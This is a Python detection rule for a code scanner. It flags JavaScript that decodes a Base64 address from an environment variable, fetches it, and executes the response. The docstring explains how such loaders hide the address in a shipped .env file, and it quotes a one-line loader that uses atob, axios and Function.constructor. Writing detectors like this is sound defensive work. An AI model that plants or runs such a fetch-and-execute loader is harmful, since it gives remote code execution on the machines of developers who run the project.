"""An address from the environment is fetched, and the answer is executed.

What it sees
    A network call whose address is an environment variable (usually decoded with `atob`), and whose answer reaches
    `eval`, `Function`, `Function.constructor` or `vm`.

Why it matters
    The loader holds no address at all: it lies as Base64 in a `.env` file that is shipped "for convenience", among
    fifty honest settings. Header names and values of the request are often kept the same way.

Example
    `const r = (await axios.get(atob(process.env.DEV_API_KEY))).data.cookie; new (Function.constructor)('require', r)`

What to do
    Do not run the project, and do not decode and open the address. Report the repository to its host.

False alarms
    None known.

References
    ATT&CK T1027.013, T1059.007, T1105
"""

from collections.abc import Iterator

from lazaretto.detect.jscode import CODE_NEEDLES, remote_matches
from lazaretto.detect.rule import Match, Rule
from lazaretto.model.finding import Confidence, Phase, Role, Severity
from lazaretto.model.text import N_
from lazaretto.parse.javascript import JavaScriptModule


def check(module: JavaScriptModule) -> Iterator[Match]:
    """Every code execution whose text was fetched from an address of the environment."""
    return remote_matches(module, "env", N_("{how} executes what is fetched from {address}"))


RULE = Rule(
    id="js/env-value-fetched-and-executed",
    title=N_("an address from the environment is fetched and the answer executed"),
    view=JavaScriptModule,
    severity=Severity.CRITICAL,
    confidence=Confidence.HIGH,
    phase=Phase.RUN,
    role=Role.EXECUTE,
    check=check,
    doc=__doc__ or "",
    techniques=("T1027.013", "T1059.007", "T1105"),
    needles=CODE_NEEDLES,
)
